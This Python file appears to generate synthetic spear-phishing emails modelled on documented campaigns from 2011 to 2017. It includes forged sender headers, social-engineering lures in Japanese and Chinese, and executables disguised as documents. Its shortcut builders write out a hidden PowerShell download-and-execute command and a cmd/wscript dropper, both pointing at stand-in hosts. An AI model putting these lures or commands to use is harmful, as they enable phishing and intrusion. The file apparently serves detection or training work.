"""Attacks on research, government, industry and travel, 2011 to 2017: programs dressed as documents,
old archives, shortcuts, mail in the names of offices and of partners."""
from held.envelope import doc, docx, lzh, xls, zipped
from kit import Pe, Rar4, SevenZip, Zip, docs, icons, lnk
from recipe import Recipe, auth

WORD, EXCEL, ADOBE = (43, 87, 154), (20, 110, 60), (200, 30, 30)


def dressed(accent, stamp, decoy=b"", size=0, **strings):
    """A program in a document's clothes that carries the document it would show."""
    p = Pe(stamp=stamp).icon(icons.document(accent=accent))
    if strings:
        p.version(**strings)
    p.imports = [("KERNEL32.dll", ["GetTempPathA", "CreateFileA", "WriteFile", "WinExec", "FindResourceA", "LoadResource"])]
    if decoy:
        p.resource(10, 101, decoy)
    p.data = docs.noise(size or 9000)
    return p.bytes()


def zacom():
    p = Pe(stamp=0x573B2100).icon(icons.document())
    p.imports = [("KERNEL32.dll", ["GetTempPathA", "CreateFileA", "WriteFile", "WinExec"]), ("WININET.dll", ["InternetOpenA", "HttpOpenRequestA"])]
    p.resource(10, 129, doc())
    p.data = b"@echo off\r\n:a\r\ndel \"%s\"\r\nif exist \"%s\" goto a\r\ndel \"%%~f0\"\r\n\0\\Startup\\conhost.exe\0" + docs.noise(110000)
    return p.bytes()


def interview():
    run = " " * 220 + "-nop -w hidden -c \"$a=(New-Object Net.WebClient).DownloadString('http://news.example.invalid/doc.ps1');iex $a\""
    return lnk(run, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", icon="%ProgramFiles%\\Microsoft Office\\Office15\\WINWORD.EXE", show=7, machine="john-pc")


def asruex():
    return lnk("/c set a=\"%TEMP%\\~tmp.vbs\"&findstr /b \"'#\" \"研究会案内.doc.lnk\">%a%&start wscript %a%", "C:\\Windows\\System32\\cmd.exe",
               icon="C:\\Program Files\\Microsoft Office\\Office14\\wordicon.exe", icon_index=1, show=7, machine="win-7qk2",
               overlay=b"\r\n'# On Error Resume Next\r\n'# x = \"http://up.example.invalid/img.asp\"\r\n" + docs.noise(70000))


RECIPES = [
    Recipe("h-zacom-reunion", "targeted", "J-CRAT, activity report of the first half of fiscal 2016, 2 (2)", "A reunion told in three lines from a free mailbox; the program hides behind blanks.",
           "同窓会", "watanabe_k0412@yahoo.co.jp", name="渡辺", twin="h-reunion-secretary", to="kenkyu-a@example.ac.jp", charset="utf-8",
           date="Wed, 18 May 2016 10:21:44 +0900", message_id="<118405.44410.qm@web100812.mail.ssk.yahoo.co.jp>",
           body="ご無沙汰しております。\n\n同窓会の案内をお送りします。\nご出席のほど、よろしくお願いいたします。\n",
           headers=[("X-Mailer", "YahooMailWebService/0.8.111_57"), ("X-Originating-IP", "[203.0.113.87]"), auth("pass", "pass", "none", "yahoo.co.jp")],
           client=("nh603-vm3.bullet.mail.ssk.yahoo.co.jp", "198.51.100.97"),
           attach=[("同窓会.zip", zipped(("同窓会のご案内.doc" + " " * 90 + ".exe", zacom)), "application/zip")]),
    Recipe("h-members-terse", "targeted", "J-CRAT, activity report of the first half of fiscal 2016, 2 (2): in March 会員の募集 and 説明会, another remote tool",
           "A briefing told in one line; a screen saver dressed as slides.", "説明会", "ishizaka.hiro@excite.co.jp", name="石坂", twin="h-terse-colleague", to="kenkyu-b@example.ac.jp",
           date="Wed, 09 Mar 2016 14:15:27 +0900", message_id="<20160309051527.11C8E7@excite.co.jp>", body="お世話になります。\n説明会の資料を送付します。\n石坂\n",
           headers=[("X-Mailer", "Excite Mail"), auth("pass", "none", "none", "excite.co.jp")], client=("mailout04.excite.example", "198.51.100.54"),
           attach=[("説明会.zip", zipped(("説明会.scr", lambda: dressed((210, 90, 30), 0x56DE4400, docs.ooxml("pptx")))), "application/zip")]),
    Recipe("h-interview-lnk", "targeted", "F-Secure Japan's blog, 2017 (取材依頼書, zip with a shortcut); JPCERT/CC, 2017-02: ChChes by shortcuts",
           "A request for an interview; the zip has a shortcut whose command stands behind blanks.", "取材依頼", "kishimoto.press@gmail.com", name="岸本 真理", twin="h-interview-paper",
           to="koho@example.ac.jp", charset="utf-8", date="Thu, 08 Jun 2017 17:48:30 +0900", message_id="<CAKd3tPz1X0vBn=Jm5s@mail.gmail.com>",
           body="例示研究所 ご担当者様\n\n突然のご連絡失礼いたします。\nフリーで科学技術分野の記事を書いております岸本と申します。\n\n"
                "北極域の観測に関する記事のため、ぜひ先生方のお話をうかがいたく存じます。\n詳細は添付の取材依頼書をご覧ください。ご検討のほどよろしくお願いいたします。\n\n岸本\n",
           headers=[auth("pass", "pass", "pass", "gmail.com")], client=("mail-io0-f176.google.com", "203.0.113.176"),
           attach=[("取材依頼書.zip", zipped(("取材依頼書.docx.lnk", interview), charset="utf-8"), "application/zip")]),
    Recipe("h-trouble-turns", "targeted", "IPA, J-CSIP, 2014-11: attacks by several turns (やり取り型) on desks of enquiries, 2014-08 to -10",
           "Third letter of an enquiry: the picture of the fault, as asked for, in a locked zip.", "Re: Re: 製品の不具合に関する問い合わせ", "k_matsunaga77@infoseek.jp", name="松永",
           twin="h-maker-collector", to="info@example.co.jp", date="Fri, 24 Oct 2014 16:02:18 +0900", message_id="<5449F8EA.4030104@infoseek.jp>",
           body="例示商事 お客様相談窓口 御中\n\n早速のご返信ありがとうございます。松永です。\n\nお尋ねの型番は HP-30 で、購入は今年の6月です。\n"
                "表示が消えるときの写真と、これまでの経過をまとめたものをお送りします。\n容量の都合で圧縮し、念のためパスワードを付けました。\n{password}\nよろしくお願いいたします。\n\n"
                "> 例示商事 お客様相談窓口です。\n> 不具合の状況が分かる写真などがありましたら、お送りいただけますでしょうか。\n>> 貴社のセンサーについてお尋ねしたいのですが、窓口はこちらで合っていますか。\n",
           password_line="解凍パスワードは 20141024 です。",
           headers=[("X-Mailer", "Infoseek Webmail"), ("In-Reply-To", "<5448C610.9080902@example.co.jp>"), ("References", "<5448C610.9080902@example.co.jp>"), auth("pass", "none", "none", "infoseek.jp")],
           client=("mail-out1.infoseek.example", "203.0.113.104"),
           attach=[("不具合状況.zip", zipped(("不具合状況/経過.exe", lambda: dressed(WORD, 0x5449A000, doc())), ("不具合状況/写真1.jpg", docs.JPG), password="20141024"), "application/zip")]),
    Recipe("h-asruex-lnk", "targeted", "JPCERT/CC, 2016-06: Asruex by shortcuts as attachments, since 2015-10", "An invitation to a study meeting; the attachment is a shortcut with a body of its own.",
           "研究会のご案内", "yoshimura.lab@gmail.com", name="吉村研究室", twin="h-itdesk-shortcut", to="kenkyu-c@example.ac.jp", charset="utf-8",
           date="Tue, 10 Nov 2015 09:11:05 +0900", message_id="<CAM2bQ9+f0aWs@mail.gmail.com>",
           body="先生各位\n\n平素より大変お世話になっております。\n下記のとおり研究会を開催いたしますので、ご案内申し上げます。\n詳しくは添付をご参照ください。\n\n日時:11月28日(土)13時から\n\n吉村研究室 事務担当\n",
           headers=[auth("pass", "pass", "none", "gmail.com")], client=("mail-pa0-f44.google.com", "203.0.113.144"), attach=[("研究会案内.doc.lnk", asruex)]),
    Recipe("h-insurance-lzh", "targeted", "Notices of health insurance societies and of the ministry, 2014-11 and 2015-06 (医療費通知, lzh); Kaspersky, Blue Termite (Emdivi), 2015-08",
           "A society's notice of costs; the lzh has a program dressed as Word.", "医療費通知のお知らせ", "kenpo@hoken.example", name="例示健康保険組合", twin="h-lab-lzh", to="jinji@example.co.jp",
           date="Mon, 10 Nov 2014 13:40:08 +0900", message_id="<20141110044008.3D2B1.kenpo@hoken.example>",
           body="被保険者の皆様\n\nいつも健康保険組合の事業にご協力いただきありがとうございます。\n平成26年度上期の医療費通知を送付いたします。添付のファイルをご確認ください。\n\n"
                "この通知は医療費の額をお知らせするもので、お支払いをお願いするものではありません。\n\n例示健康保険組合 給付課\n",
           headers=[("X-Mailer", "Microsoft Outlook Express 6.00.2900.5931"), auth("none", "none", "none", "hoken.example")], client=("www14.rental-server.example", "198.51.100.214"),
           attach=[("医療費通知のお知らせ.lzh", lzh(("医療費通知のお知らせ.exe", lambda: dressed(WORD, 0x545C8000, doc(), CompanyName="Microsoft Corporation", FileDescription="Microsoft Word")), level=2))]),
    Recipe("h-alert-forged", "targeted", "IPA, 2011-09 and 2012: mail in the name of IPA and of security offices (IPA, analysis of 124 mails, 2014-07)",
           "An alert in the name of a security agency; its check tool is the attack.", "【緊急】Adobe Flash Player の脆弱性対策について", "isec-info@ipa.go.jp", name="IPA セキュリティセンター",
           twin="h-advisory-quoted", to="security@example.ac.jp", date="Thu, 16 Aug 2012 11:26:33 +0900", message_id="<20120816112633.F1A3@ipa.go.jp>",
           body="関係各位\n\nIPA セキュリティセンターです。\n\nAdobe Flash Player に、任意のコードが実行される脆弱性(APSB12-18)が存在します。\nこの脆弱性を悪用した攻撃が確認されています。\n\n"
                "対象の有無を確認するツールを用意しましたので、添付を解凍のうえ実行し、結果をご確認ください。\n\n----\n独立行政法人情報処理推進機構 技術本部 セキュリティセンター\nTEL: 03-0000-0000\n",
           headers=[("X-Mailer", "Microsoft Office Outlook, Build 11.0.5510"), auth("fail", "none", "none", "ipa.go.jp")], client=("59-115-dynamic.hinet.example", "203.0.113.115"),
           attach=[("APSB12-18_check.zip", zipped(("APSB12-18_check.exe", lambda: dressed(ADOBE, 0x502C0000, FileDescription="Flash Player Check"))), "application/zip")]),
    Recipe("h-grant-notice", "targeted", "Keio University and Shibaura Institute of Technology, notices of 2016-05; Nikkei, 2017-01: ministry's name within the display name, a third party's server",
           "A ministry's notice to holders of grants; the ministry's address is only in the displayed name.", "平成28年度科学研究費助成事業 中間評価に係る調書の提出について",
           "web-order@hanaya.example", name="kakenhi@mext.go.jp 研究助成課", twin="h-cut-staff", to="kenkyu-b@example.ac.jp", charset="utf-8",
           date="Thu, 26 May 2016 14:10:52 +0900", message_id="<20160526141052.84A1F2C3@hanaya.example>",
           body="研究代表者 各位\n\n平素より科学研究費助成事業にご協力いただき、ありがとうございます。\n\n標記について、別添のとおり中間評価に係る調書の提出をお願いいたします。\n"
                "提出期限は6月17日(金)17時です。期限を過ぎた場合は受け付けられませんので、ご注意ください。\n\n文部科学省 研究振興局 学術研究助成課\n",
           headers=[("X-PHP-Script", "hanaya.example/cgi/mail.php"), ("Reply-To", "kakenhi.mext@yahoo.co.jp"), auth("pass", "none", "none", "hanaya.example")],
           client=("web03.hosting.example", "198.51.100.83"),
           attach=[("中間評価に係る調書の提出について.zip", zipped(("中間評価に係る調書の提出について.exe", lambda: dressed(WORD, 0x57465A00, docx())), ("別紙様式.doc", doc)), "application/zip")]),
    Recipe("h-eticket-partner", "targeted", "Nikkei ITpro, 2016-06 and -07: the travel agency's case (partner's address, e-ticket, PDF icon; Elirks and PlugX)",
           "A partner airline asks about a ticket; the copy is a program with a PDF's icon.", "航空券控え 添付のご連絡", "ticket@reiji-air.example", name="例示航空 法人営業部", twin="h-travel-booked",
           to="eigyo@example.co.jp", date="Tue, 15 Mar 2016 11:38:20 +0900", message_id="<20160315023820.A8C01@reiji-air.example>",
           body="例示商事株式会社 営業部 ご担当者様\n\nお世話になっております。\n例示航空 法人営業部でございます。\n\n4月に北京へご出張のお客様のEチケット控えをお送りいたします。\n"
                "お名前とご旅程にお間違いがないか、ご確認のほどお願いいたします。\n\n例示航空株式会社 法人営業部\n東京都港区〇〇1-1\n",
           headers=[("X-Mailer", "Microsoft Office Outlook 11"), auth("fail", "none", "none", "reiji-air.example")], client=("vps-203-0-113-27.cloud.example", "203.0.113.27"),
           attach=[("E-TKT控え.zip", zipped(("E-TKT控え.exe", lambda: dressed(ADOBE, 0x56E76800, docs.PDF))), "application/zip")]),
    Recipe("h-obituary-sheet", "targeted", "Palo Alto Networks, 2015-04: DragonOK against Japan, 2015-01 to -03 (訃報, icons of Excel, Word and PDF)",
           "News of a death; a program dressed as a sheet shows the hours of the wake.", "訃報のお知らせ", "soumu.yamane@nifty.com", name="総務部 山根", to="eigyo@example.co.jp",
           date="Fri, 06 Feb 2015 08:55:41 +0900", message_id="<54D4016D.6080507@nifty.com>",
           body="各位\n\n製造部 小暮課長のご尊父様が、2月5日永眠されました。\nここに生前のご厚誼を深謝し、謹んでお知らせいたします。\n通夜、告別式の日程は添付をご覧ください。\n\n総務部 山根\n",
           headers=[("X-Mailer", "Microsoft Windows Mail 6.0.6002.18197"), auth("softfail", "none", "none", "nifty.com")], client=("flh3-203-0-113-58.isp.example", "203.0.113.58"),
           attach=[("訃報.zip", zipped(("訃報.exe", lambda: dressed(EXCEL, 0x54D3A000, xls(), FileDescription="Microsoft Office Excel"))), "application/zip")]),
    Recipe("h-students-desk", "targeted", "Kyushu Institute of Technology, CSIRT, 2015-08: mail to the desks for students from abroad, Bcc only, no text, RAR with a program and a genuine sheet",
           "To the desk for students from abroad: no To, no text, a RAR with a program beside a real sheet.", "留学生名簿", "liu_xuesheng2015@yahoo.co.jp", to="", charset="euc-jp",
           date="Wed, 19 Aug 2015 12:47:03 +0900", message_id="<909118.77214.qm@web101215.mail.kks.yahoo.co.jp>", body=" \n",
           headers=[("X-Mailer", "YahooMailWebService/0.8.111_65"), auth("pass", "pass", "none", "yahoo.co.jp")], client=("nh604-vm1.bullet.mail.kks.yahoo.co.jp", "198.51.100.101"),
           attach=[("留学生名簿.rar", lambda: Rar4().add("留学生名簿.exe", dressed(EXCEL, 0x55D3E000), unicode="留学生名簿.exe").add("留学生名簿.xls", xls(), unicode="留学生名簿.xls").bytes())]),
    Recipe("h-plead-reversed", "targeted", "Trend Micro, 2014-05 and -06: PLEAD against Taiwan's government, names turned by U+202E", "A ministry's minutes in Chinese; a screen saver whose name is turned.",
           "檢送本部103年第2次科技合作會議紀錄", "chenyl.most@msa.hinet.net", name="陳怡伶", to="taipei@example.co.jp", charset="big5", date="Wed, 21 May 2014 16:30:19 +0800",
           message_id="<004a01cf74cd$b1d2e0a0$@msa.hinet.net>",
           body="各位長官、先進 您好:\n\n檢送本部103年第2次科技合作會議紀錄乙份,請 查照。\n如有修正意見,請於5月28日前回復承辦人。\n\n陳怡伶 敬上\n國際合作司\n電話:(02)0000-0000\n",
           headers=[("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"), auth("pass", "none", "none", "msa.hinet.net")], client=("msr6.hinet.example", "198.51.100.66"),
           attach=[("會議紀錄.7z", lambda: SevenZip().add("1030521會議紀錄\u202excod.scr", dressed(WORD, 0x537C0000, docx())).bytes())]),
    Recipe("h-himalaya-pair", "targeted", "Contagio and Symantec, 2012-02: a document together with fputlsat.dll (CVE-2011-1980), NfLog; Citizen Lab on mail to Tibetan groups",
           "An agenda for a conference on the Himalaya; a document lies beside a library that the old Office would load.", "Agenda for the Himalaya water workshop", "tseten.dolkar@aol.com",
           name="Tseten Dolkar", to="kenkyu-a@example.ac.jp", charset="us-ascii", date="Thu, 09 Feb 2012 17:20:36 +0800", message_id="<8CEB5221C1D0A77-1A04-2F1B@webmail-d012.aol.com>",
           body="Dear Professor,\n\nThank you for accepting to join the workshop on water of the Himalaya in Dharamsala.\nPlease find the agenda enclosed. Extract both files to the same folder before reading.\n\nWith regards,\nTseten\n",
           headers=[("X-Mailer", "AOL Webmail 34942-STANDARD"), ("X-Originating-IP", "203.0.113.189"), auth("pass", "pass", "none", "aol.com")], client=("imr-da04.mx.aol.com", "198.51.100.204"),
           attach=[("Agenda.zip", lambda: Zip().add("Agenda.doc", doc()).add("fputlsat.dll", Pe(stamp=0x4F320000, dll=True).bytes()).bytes(), "application/zip")]),
]
